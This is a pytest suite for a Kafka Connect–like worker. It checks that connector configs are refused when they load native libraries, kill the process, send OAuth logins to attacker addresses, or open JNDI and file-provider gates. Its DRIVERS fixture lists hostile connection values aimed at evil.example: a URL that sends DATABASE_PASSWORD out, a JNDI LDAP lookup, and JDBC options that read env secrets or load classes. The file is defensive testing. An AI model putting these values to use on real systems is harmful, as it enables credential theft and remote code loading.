"""What a config's settings of Kafka clients, registries and databases may have a process load, read or ask."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import orjson
import pytest

from kconnect.core.settings.overrides import Policy
from kconnect.core.settings.validation import errors_of
from kconnect.errors import BadRequestError
from kconnect.plugins.registry import Registry
from kconnect.plugins.sandbox import Sandbox
from kconnect.units.unit import Unit
from tests.attacks.hostile import Hostile
from tests.integration.units import MemoryHost, Numbers, Plugins, end, source_of, until
from tests.support import wait_until

LIBRARY = next(str(file) for file in Path(orjson.__file__).parent.glob("*.so"))
"""Some code that a process can load."""
UNSAFE = "connector.client.config.override.unsafe.allowlist"


@pytest.fixture
def service() -> Iterator[Hostile]:
    with Hostile() as made:
        yield made


@pytest.fixture
def other() -> Iterator[Hostile]:
    """An address of the attacker's."""
    with Hostile() as made:
        yield made


def validated(config: Mapping[str, str], *unsafe: str) -> dict[str, list[str]]:
    """Have a worker's sandbox validate a config. Return its messages by setting."""
    sandbox = Sandbox(Registry.scan(None), overrides=Policy(unsafe=unsafe))
    try:
        infos = sandbox.validate(config["connector.class"], config)
    finally:
        sandbox.close()
    return {row["value"]["name"]: errors_of(row) for row in infos["configs"] if errors_of(row)}


def http_sink(service: Hostile, **more: str) -> dict[str, str]:
    return {
        "name": "sink",
        "connector.class": "HttpSink",
        "topics": "t",
        "http.api.url": service.url,
        "reporter.result.topic.name": "answers",
        "reporter.bootstrap.servers": "127.0.0.1:1",
        **{f"reporter.producer.{name}": value for name, value in more.items()},
    }


@pytest.mark.process
def test_a_reporter_loads_no_native_code(service: Hostile) -> None:
    """Whoever may create connectors names a library for HttpSink's producer of answers: no process loads it."""
    config = http_sink(service, **{"plugin.library.paths": LIBRARY})
    [(_, [message])] = validated(config, "plugin.library.paths").items()
    assert "undefined symbol: conf_init" in message, "the control: with the switch open, the library was not loaded"
    [(setting, [message])] = validated(config).items()
    assert setting == "reporter.producer.plugin.library.paths"
    assert "loads native code" in message
    assert UNSAFE in message


_ENDS = """
import confluent_kafka, time
producer = confluent_kafka.Producer({"bootstrap.servers": "127.0.0.1:1", "internal.termination.signal": "9"})
time.sleep(0.2)
del producer
"""


@pytest.mark.process
@pytest.mark.parametrize("prefix", ["reporter.producer.", "consumer.override.", "producer.override."])
def test_no_client_ends_its_process(service: Hostile, prefix: str) -> None:
    """Whoever may create connectors has a client end its threads by SIGKILL, and so the host of others: it is refused."""
    control = subprocess.run([sys.executable, "-c", _ENDS], capture_output=True, timeout=60)
    assert control.returncode == -9, "the control: the client has killed its process"
    found = validated({**http_sink(service), f"{prefix}internal.termination.signal": "9"})
    assert "may end the process, with all that runs in it" in str(found), found


@pytest.mark.process
def test_a_reporter_asks_no_address_for_a_token(service: Hostile, other: Hostile) -> None:
    """Whoever may create connectors names an address for the login of HttpSink's producer: no process asks it."""
    url = "sasl.oauthbearer.token.endpoint.url"
    login = {"sasl.oauthbearer.client.id": "a", "sasl.oauthbearer.client.secret": "b", "security.protocol": "SASL_PLAINTEXT"}
    config = http_sink(
        service, **login, **{url: f"{other.url}/token", "sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.method": "oidc"}
    )
    validated(config, url)
    wait_until(lambda: other.asked, message="the control: with the switch open, nobody asked")
    other.asked.clear()
    [(setting, [message])] = validated(config).items()
    assert setting == f"reporter.producer.{url}"
    assert "sends the worker's requests wherever it says" in message
    assert other.asked == []


@pytest.mark.process
@pytest.mark.parametrize("value", ["/var/run/x.sock", "http://127.0.0.1/x", "a:9092,file:///x", ""])
def test_brokers_of_a_reporter_are_brokers(service: Hostile, value: str) -> None:
    """Whoever may create connectors names something else than brokers for HttpSink's producer: it is refused."""
    found = validated({**http_sink(service), "reporter.producer.bootstrap.servers": value})
    assert "a list of brokers" in str(found), found


@pytest.mark.process
@pytest.mark.parametrize("name", ["default.topic.config", "delivery.report.only.error"])
def test_what_python_s_library_alone_knows_is_no_setting_of_a_reporter(service: Hostile, name: str) -> None:
    """Whoever may create connectors names a setting that the library takes no text for: it is refused by its name."""
    found = validated({**http_sink(service), f"reporter.producer.{name}": "x"})
    assert f"reporter.producer.{name}" in str(found) and "no setting of a producer" in str(found), found


@pytest.mark.process
def test_offsets_are_not_altered_by_code_that_a_config_would_load() -> None:
    """A config with a refused setting stands in the topic already: a change of offsets does not hand it to plugin code."""
    sandbox = Sandbox(Registry.scan(None))
    try:
        with pytest.raises(BadRequestError, match="loads native code"):
            sandbox.alter_offsets("FileStreamSource", {"file": "x", "a.plugin.library.paths": LIBRARY}, [])
    finally:
        sandbox.close()


@pytest.fixture
def started() -> list[str]:
    return []


@pytest.fixture
def host(started: list[str]) -> MemoryHost:
    class Task(Numbers):
        def start(self, props: dict[str, str]) -> None:
            started.append("task")
            super().start(props)

    class Watched(source_of(Task)):  # type: ignore[misc]
        def start(self, props: dict[str, str]) -> None:
            started.append("connector")
            super().start(props)

    return MemoryHost("127.0.0.1:1", Plugins(Watched=Watched), **{UNSAFE: "ssl.providers"})


@pytest.mark.parametrize("task", [None, 0])
def test_a_config_in_the_topic_does_not_start(host: MemoryHost, started: list[str], task: int | None) -> None:
    """Somebody who may write to the config topic, or an older worker, left a refused setting there: no code gets it."""
    config = {"name": "c", "connector.class": "Watched", "topic": "t", "x.producer.plugin.library.paths": LIBRARY}
    unit: Unit = host.unit(config, task=task)
    until(lambda: "FAILED" in host.states)
    end(unit)
    assert "loads native code" in (host.statuses[-1][1] or "")
    assert started == []


DRIVERS = (
    (
        "connection.url",
        "jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=SECRET",
        "variables of the process",
    ),
    ("connection.url", "jdbc:oracle:thin:@tcps://h/d?TOKEN_AUTH=OAUTH&TOKEN_LOCATION=/var/run/token", "the worker's files"),
    ("connection.uri", "mongodb://evil.example/?authMechanismProperties=ENVIRONMENT:k8s", "the machine's own login"),
    ("connection.url", "jdbc:h2:mem:x", "each query may run code"),
    ("connection.url", "jdbc:duckdb:", "each query may run code"),
    ("connection.url", "jdbc:trino://h/d?dnsResolver=com.acme.evil.Resolver", "load a class"),
    ("camel.sink.url", "http://evil.example/{{env:DATABASE_PASSWORD}}", "variables of the process"),
    ("camel.beans.x", "#class:javax.naming.InitialContext#doLookup('ldap://evil.example')", "load a class"),
)


@pytest.mark.parametrize(("setting", "value", "reason"), DRIVERS, ids=[value.partition("?")[0] for _, value, _ in DRIVERS])
def test_no_library_gives_away_the_machine(host: MemoryHost, started: list[str], setting: str, value: str, reason: str) -> None:
    """Whoever may create connectors has a library send a variable, a file or a login, or run code: it is never started."""
    unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "topic": "t", setting: value}, task=None)
    until(lambda: "FAILED" in host.states)
    end(unit)
    assert reason in (host.statuses[-1][1] or "")
    assert started == []


def test_a_config_that_the_worker_allows_starts(host: MemoryHost, started: list[str]) -> None:
    """Control: what the worker's file names starts."""
    unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "x.producer.ssl.providers": "x"}, task=None)
    until(lambda: started)
    end(unit)
    assert started == ["connector"]


_GATES = """
import json, sys
from kconnect.jvm import machine, options
from kconnect.jvm.options import Options
options.wanted = Options(more=json.loads(sys.argv[1]))
machine.start()
import jpype
P = "org.apache.kafka.common."

def said(call):
    try:
        call()
    except jpype.JException as error:
        return str(error)
    return ""

password = jpype.JClass(P + "config.types.Password")
login = machine.to_map({})
login.put("sasl.jaas.config", password("com.sun.security.auth.module.JndiLoginModule required;"))
jaas = jpype.JClass(P + "security.JaasContext")
producer = machine.to_map({"bootstrap.servers": "127.0.0.1:1", "client.id": "${f:" + sys.argv[2] + ":secret}"})
producer.put("config.providers", "f")
producer.put("config.providers.f.class", P + "config.provider.FileConfigProvider")
serializer = P + "serialization.StringSerializer"
producer.put("key.serializer", serializer)
producer.put("value.serializer", serializer)
config = jpype.JClass("org.apache.kafka.clients.producer.ProducerConfig")
read = []
print(json.dumps({
    "jndi": said(lambda: jaas.loadClientContext(login)),
    "providers": said(lambda: read.append(str(config(producer).getString("client.id")))),
    "read": read,
    "urls": str(jpype.java.lang.System.getProperty("org.apache.kafka.sasl.oauthbearer.allowed.urls")),
}))
"""


@pytest.mark.process
def test_kafka_s_own_gates_are_closed_in_a_jvm(tmp_path: Path) -> None:
    """A Java plugin hands Kafka's client a login by JNDI, or a provider of files, by whatever way: the client refuses."""
    file = tmp_path / "secret.properties"
    file.write_text("secret=canary\n")

    def tried(*more: str) -> Any:
        command = [sys.executable, "-c", _GATES, json.dumps(more), str(file)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
        return json.loads(done.stdout.strip().splitlines()[-1])

    closed = tried()
    assert "JndiLoginModule is not allowed" in closed["jndi"]
    assert closed["read"] == []
    assert "automatic.config.providers" in closed["providers"]
    assert closed["urls"] == ""
    opened = tried(
        "-Dorg.apache.kafka.disallowed.login.modules=",
        "-Dorg.apache.kafka.automatic.config.providers=org.apache.kafka.common.config.provider.FileConfigProvider",
        "-Dorg.apache.kafka.sasl.oauthbearer.allowed.urls=https://login.example.com",
    )
    assert opened == {"jndi": "", "providers": "", "read": ["canary"], "urls": "https://login.example.com"}, "the control"
